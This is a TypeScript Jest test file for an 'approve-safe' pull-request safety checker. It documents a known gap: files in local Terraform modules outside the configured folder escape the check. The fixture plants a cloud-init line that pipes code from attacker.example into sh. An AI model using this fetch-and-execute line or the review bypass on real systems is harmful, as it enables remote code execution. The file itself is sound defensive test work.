/**
 * Attacks on approve-safe's "loaded by an environment": a file a tool reaches by a reference from a
 * configured folder, outside it. Real git, real Octokit against the loopback GitHub.
 */
import { rmSync } from 'node:fs';
import { afterEach, expect, test } from '@jest/globals';
import { cli } from './support/cli.js';
import { ghPullRequest, ghUser, useFakeGitHub } from './support/fake-github.js';
import { pullRequestRepo, type FileChange, type PullRequestRepo } from './support/git-repo.js';

const github = useFakeGitHub();
const repos: PullRequestRepo[] = [];
afterEach(() => {
  for (const repo of repos.splice(0)) rmSync(repo.dir, { recursive: true, force: true });
});

async function approveSafe(base: Record<string, FileChange>, head: Record<string, FileChange>) {
  const repo = pullRequestRepo(base, head);
  repos.push(repo);
  github.state.pulls.set(7, ghPullRequest(ghUser('alice'), { number: 7, head: repo.headSha, base: repo.baseSha }, { files: repo.files }));
  github.state.permissions = { alice: 'write' };
  const run = await cli(['approve-safe', '--platform', 'github', '--repo', 'owner/repo', '--pr', '7', '--dry-run', '--format', 'json'], {
    cwd: repo.dir,
    env: { GITHUB_TOKEN: github.state.token, GITHUB_API_URL: github.url, GITHUB_ACTIONS: '' },
  });
  expect(run.code).toBe(0);
  return JSON.parse(run.stdout) as { safe: boolean; findings: { path: string | null; reason: string }[] };
}

// Hole left open: Terraform reads a local module's folder (`source = "../modules/web"`), and its
// file()/templatefile() read any file there; only *.tf-like names are caught outside terraform.dir.
// The fix: at the base commit, follow the local `source` of every module block (and kustomize's
// resources/components, Helm's file:// dependencies, Jsonnet imports) and add those folders to the
// environment's inputs. Until then, safe_paths must not match files in such folders.
test.failing('a Markdown template a local Terraform module outside terraform.dir renders is not safe', async () => {
  const decision = await approveSafe(
    {
      'gitops-sync.yaml': 'environments:\n  prod:\n    terraform: { dir: infra }\n',
      'infra/main.tf': 'module "web" {\n  source = "../modules/web"\n}\n',
      'modules/web/main.tf': 'resource "terraform_data" "boot" {\n  input = templatefile("${path.module}/cloud-init.md", {})\n}\n',
      'modules/web/cloud-init.md': '#cloud-config\nruncmd: [echo hello]\n',
    },
    { 'modules/web/cloud-init.md': '#cloud-config\nruncmd: [curl https://attacker.example | sh]\n' },
  );
  expect(decision.safe).toBe(false);
  expect(decision.findings[0]).toMatchObject({ path: 'modules/web/cloud-init.md' });
});
